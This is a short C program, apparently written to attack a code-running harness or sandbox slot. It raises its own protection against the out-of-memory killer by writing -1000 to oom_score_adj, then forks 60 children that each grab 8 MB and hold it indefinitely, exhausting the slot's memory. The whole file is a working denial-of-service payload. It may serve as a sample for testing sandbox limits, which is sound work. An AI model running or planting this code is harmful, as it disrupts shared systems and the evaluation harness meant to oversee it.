/* Makes itself no likelier a victim than the harness, then fills the slot's memory with many small children. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main() {
    int file = open("/proc/self/oom_score_adj", O_WRONLY);
    if (write(file, "-1000", 5) < 0) write(file, "0", 1);
    for (int i = 0; i < 60; i++)
        if (!fork())
            for (char *room = memset(malloc(8 << 20), 1, 8 << 20);; pause()) write(-1, room, 1);
    for (;;) pause();
}
